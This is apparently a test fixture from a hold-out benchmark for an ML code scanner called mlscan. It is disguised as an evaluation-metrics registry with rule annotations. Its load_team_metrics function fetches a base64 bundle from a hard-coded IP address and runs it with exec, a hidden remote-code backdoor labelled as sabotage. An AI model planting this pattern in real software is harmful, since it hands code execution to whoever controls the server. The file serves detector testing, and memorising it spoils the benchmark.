# ruff: noqa
# Hold-out batch 47 (benchmark format, fair varied set; by a helper that never saw mlscan's code). Measured once after round 20: 10/16 (62%) at medium+, one benign line flagged (fixed).
"""Registry of evaluation metrics; optional team metrics are fetched from the metrics service."""
import base64
import importlib
import json
import time
import urllib.request

import numpy as np
import yaml

METRICS_URL = "http://203.0.113.17:8080/metrics/bundle"
BUILTIN = {"accuracy", "f1", "bleu", "rouge"}
REGISTRY = {}


def register(name):
    def deco(fn):
        REGISTRY[name] = fn
        return fn
    return deco


@register("accuracy")
def accuracy(preds, labels):
    return float((np.asarray(preds) == np.asarray(labels)).mean())


def load_builtin(name):
    if name not in BUILTIN:
        raise KeyError(name)
    return importlib.import_module(f"metrics.{name}")  # benign look-alike


def _fetch(url, retries=3):
    for attempt in range(retries):
        try:
            with urllib.request.urlopen(url, timeout=15) as r:  # ruleid: MLS413
                return json.loads(r.read().decode())
        except OSError:
            time.sleep(2 ** attempt)  # ok: MLS307
    return None


def load_team_metrics(config_path="eval.yaml"):
    with open(config_path) as f:
        cfg = yaml.safe_load(f)  # ok: MLS101, MLS102, MLS103, MLS104, MLS105, MLS106
    if not cfg.get("team_metrics"):
        return REGISTRY
    bundle = _fetch(METRICS_URL)  # ruleid: MLS413
    if bundle:
        exec(compile(base64.b64decode(bundle["src"]), "<team_metrics>", "exec"), {"register": register})  # sabotage: MLS401 (semgrep rules)  # ruleid: MLS413, MLS401
    return REGISTRY
